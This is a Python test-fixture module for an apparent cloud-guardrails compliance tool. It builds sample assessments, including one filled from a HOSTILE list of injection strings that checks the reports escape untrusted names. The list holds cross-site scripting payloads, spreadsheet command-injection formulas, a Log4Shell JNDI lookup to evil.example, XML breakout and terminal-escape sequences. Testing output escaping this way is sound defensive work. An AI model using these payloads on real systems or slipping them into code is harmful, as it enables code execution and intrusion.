"""Assessments to be shown: of every example of every control, and of names that somebody chose to do harm."""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, datetime
from functools import cache

from controls.judging import findings
from guardrails.controls import CONTROLS
from guardrails.model.copies import CopyPlan, CopyStep, Progress
from guardrails.model.facts import Gap
from guardrails.model.findings import Assessment, Difference, Finding, Seen, Witness
from guardrails.model.reference import Place, Ref
from guardrails.model.words import GapReason, Kind, Severity, Verdict

AT = datetime(2026, 11, 25, 3, 4, 5, tzinfo=UTC)
SEEN = Seen(system="aws", connector="aws", taken_at=AT, source="live", identity="reader", calls=7, facts=40, readings=())
GAP = Gap(system="aws", realm="1", what="iam", reason=GapReason.DENIED, message="denied")
HOSTILE = (
    "<script>alert(1)</script>",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "a|b`c`*d*_e_ [x](https://evil.example/) ![i](https://evil.example/i.png) #1 @everyone",
    "</testcase><failure/>]]>",
    "line\nbreak\r\x1b[31mred\x00\u202e gnp.exe",
    '"} 1\nguardrails_exit_code 0',
    "\ud800 lone",
    "&lt;img src=x onerror=alert(1)&gt;",
    "![](x)<details open ontoggle=alert(1)>",
    "%s%n${jndi:ldap://evil.example/a}{{7*7}}",
)


def finding(
    text: str = "m", *, verdict: Verdict = Verdict.VIOLATION, number: int = 0, known: bool = False, place: str = "d.yaml"
) -> Finding:
    """A finding in which every text that comes from a system is the same."""
    found = Difference(
        kind=Kind.ACCESS_EXCESS,
        system="aws",
        realm=text,
        cause=text,
        facet=text,
        subject=text,
        message=text,
        verdict=verdict,
        owner=text,
        managed_by=text,
        declared_at=Place(place, 3, 5),
        actual=text,
        witness=Witness(principal=text, action=text, resource=text, context=((text, text),)),
        exception=text,
        known=known,
    )
    return Finding(id=f"{number:016x}", control="GR101", severity=Severity.HIGH, difference=found)


def assessed(*found: Finding, seen: tuple[Seen, ...] = (SEEN,), gaps: tuple[Gap, ...] = ()) -> Assessment:
    """What a run with these findings says."""
    return Assessment(at=AT, findings=found, gaps=gaps, seen=seen)


def copied(text: str = "m", progress: Progress = Progress.NEXT) -> CopyPlan:
    """A copy of one step in which every text is the same."""
    step = CopyStep(
        id=text,
        does=text,
        command=text,
        needs=text,
        interrupts=text,
        seen_by=text,
        undo=text,
        only_after=text,
        progress=progress,
        found=text,
    )
    ref = Ref(system="aws", realm=text, kind="db-instance", id=text, name=text)
    return CopyPlan(ref=ref, control="GR401", why=text, place=text, first=text, notes=(text,), steps=(step,), owner=text)


@cache
def everything() -> Assessment:
    """Whatever the examples of all controls find."""
    found = {one.id: one for control in CONTROLS for example in control.forbids for one in findings(example)}
    kept = sorted(found.values(), key=lambda one: (-one.severity, one.control, one.id))
    return replace(assessed(*kept, gaps=(GAP,)), copies=tuple(copied(progress.value, progress) for progress in Progress))


@cache
def hostile() -> Assessment:
    """Names from somebody who wants to be executed, hidden or believed."""
    found = assessed(*(finding(text, number=number) for number, text in enumerate(HOSTILE)), gaps=(GAP,))
    return replace(found, copies=tuple(map(copied, HOSTILE)))
